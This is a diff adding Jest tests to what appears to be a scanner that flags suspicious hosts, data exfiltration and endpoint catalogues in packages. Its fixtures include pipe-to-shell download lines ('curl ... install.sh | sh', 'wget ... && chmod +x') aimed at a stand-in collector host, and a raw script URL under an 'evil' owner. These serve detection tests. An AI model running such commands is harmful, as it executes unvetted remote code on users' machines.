@@ -1,14 +1,18 @@
 import { describe, expect, it } from '@jest/globals'
-import { findHosts } from '../../../src/rules/lib/hosts.js'
+import { findHosts, isInSentence, quotedAround } from '../../../src/rules/lib/hosts.js'
 import {
+  CATALOGUE_MIN_SITES,
   exfilCategory,
+  isEndpointCatalogue,
   isIgnoredHost,
+  isOwnRawContent,
+  ownGitHubOwners,
   ownSites,
   siteOf
 } from '../../../src/rules/lib/host-policy.js'
 import { findEmails } from '../../../src/rules/lib/emails.js'
 import { recipientField } from '../../../src/rules/lib/recipients.js'
-import { makeManifest } from '../../helpers/factories.js'
+import { makeFiles, makeManifest } from '../../helpers/factories.js'
 
 describe('findHosts', () => {
   it.each([
@@ -139,5 +143,78 @@ describe('recipientField', () => {
     ["to: user, subject: 'mail ", undefined]
   ])('%j -> %s', (before, field) => {
     expect(recipientField(before)).toBe(field)
+  })
+})
+
+describe('isInSentence', () => {
+  const at = (text: string) => isInSentence(text, text.indexOf('://') + 3)
+
+  it.each([
+    'See https://reactjs.org/link/crossorigin-error for more information.',
+    'Learn more about using refs safely here: https://reactjs.org/link/strict-mode-string-ref',
+    'Website https://www.freedesktop.org/ has the full specification'
+  ])('%s is prose', (text) => {
+    expect(at(text)).toBe(true)
+  })
+
+  it.each([
+    'https://api.collector.xyz/v1/collect',
+    'see https://x.io/a',
+    'curl -fsSL https://get.collector.xyz/install.sh | sh then wait for it',
+    'wget https://get.collector.xyz/x && chmod +x x and run it',
+    'token=abc https://x.io/a?b=1 id=2'
+  ])('%s is not', (text) => {
+    expect(at(text)).toBe(false)
+  })
+})
+
+describe('quotedAround', () => {
+  it('gives the quoted string around a position', () => {
+    const line = `log(1, "See https://x.io/a for more", 'b')`
+    expect(quotedAround(line, line.indexOf('x.io'))).toBe('See https://x.io/a for more')
+  })
+
+  it('gives nothing outside quotes', () => {
+    const line = 'curl https://x.io/a'
+    expect(quotedAround(line, line.indexOf('x.io'))).toBeUndefined()
+  })
+})
+
+describe('own GitHub raw content', () => {
+  it.each([
+    [{ repository: 'acme/tool' }, ['acme']],
+    [{ repository: 'github:Acme/tool' }, ['acme']],
+    [{ repository: { type: 'git', url: 'git+https://github.com/acme/tool.git' } }, ['acme']],
+    [{ repository: 'git@github.com:acme/tool.git' }, ['acme']],
+    [{ homepage: 'https://github.com/acme/tool#readme' }, ['acme']],
+    [{ repository: 'https://gitlab.com/acme/tool' }, []]
+  ])('%j has owners %j', (fields, owners) => {
+    expect([...ownGitHubOwners(makeManifest(fields))]).toEqual(owners)
+  })
+
+  it('matches raw files of an own owner only', () => {
+    const owners = new Set(['acme'])
+    const [own] = findHosts("'https://raw.githubusercontent.com/acme/tool/main/x.yml'")
+    const [other] = findHosts("'https://raw.githubusercontent.com/evil/tool/main/x.sh'")
+    expect(own && isOwnRawContent(own, owners)).toBe(true)
+    expect(other && isOwnRawContent(other, owners)).toBe(false)
+  })
+})
+
+describe('isEndpointCatalogue', () => {
+  const urls = (count: number) =>
+    Array.from({ length: count }, (_, i) => `get('https://rpc.net${i}.xyz')`).join('\n')
+
+  it('needs CATALOGUE_MIN_SITES distinct sites in code', () => {
+    expect(isEndpointCatalogue(makeFiles({ 'a.js': urls(CATALOGUE_MIN_SITES) }))).toBe(true)
+    expect(isEndpointCatalogue(makeFiles({ 'a.js': urls(CATALOGUE_MIN_SITES - 1) }))).toBe(false)
+  })
+
+  it('does not count comments, docs or placeholders', () => {
+    const many = urls(CATALOGUE_MIN_SITES)
+    expect(isEndpointCatalogue(makeFiles({ 'a.js': `/*\n${many}\n*/` }))).toBe(false)
+    expect(isEndpointCatalogue(makeFiles({ 'README.md': many }))).toBe(false)
+    const placeholders = many.replace(/\.xyz/g, '.example')
+    expect(isEndpointCatalogue(makeFiles({ 'a.js': placeholders }))).toBe(false)
   })
 })
